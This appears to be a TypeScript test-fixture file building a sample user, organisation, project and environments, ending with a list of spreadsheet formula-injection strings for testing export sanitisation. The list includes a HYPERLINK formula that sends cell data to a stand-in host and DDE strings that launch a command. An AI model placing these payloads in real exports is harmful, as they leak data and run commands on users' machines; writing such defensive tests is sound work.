import type { CurrentUser } from '../../schemas/contracts/auth';
import type {
  EnvironmentDetail,
  EnvironmentSummary,
  Organisation,
  Project,
} from '../../schemas/contracts/tenancy';

/** Alice, a configurator of Acme's demo project; override what a test is about. */
export const makeUser = (overrides: Partial<CurrentUser> = {}): CurrentUser => ({
  id: 'u1',
  username: 'alice',
  email: 'alice@acme.test',
  firstname: 'Alice',
  lastname: 'Martin',
  isLight: false,
  role: 'user',
  language: 'fr',
  organisations: {
    o1: {
      id: 'o1',
      name: 'Acme',
      role: 'notAdmin',
      projects: {
        p1: { id: 'p1', name: 'Demo project', access: 'configurator', favourite: false, quickAccess: false },
      },
    },
  },
  preferences: {},
  ...overrides,
});

export const acme: Organisation = { id: 'o1', name: 'Acme', contractStartDate: null, yearlyQuota: 120000 };

export const demoProject: Project = {
  id: 'p1',
  organisationId: 'o1',
  name: 'Demo project',
  type: 'nlu',
  notes: 'Claims triage',
  createdAt: '2026-03-02T10:00:00.000Z',
};

export const production: EnvironmentSummary = {
  id: 'e1',
  projectId: 'p1',
  name: 'Production',
  visibility: 'public',
  createdAt: '2026-03-03T10:00:00.000Z',
};

export const productionDetail: EnvironmentDetail = {
  ...production,
  projectName: 'Demo project',
  organisationId: 'o1',
  organisationName: 'Acme',
};

/**
 * Names a spreadsheet would run as formulas (docs/security.md, "Exports"): one per prefix OWASP's
 * CSV Injection guidance names (=, +, -, @, tab, carriage return).
 */
export const FORMULA_LIKE_NAMES = [
  '=HYPERLINK("http://evil.test/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
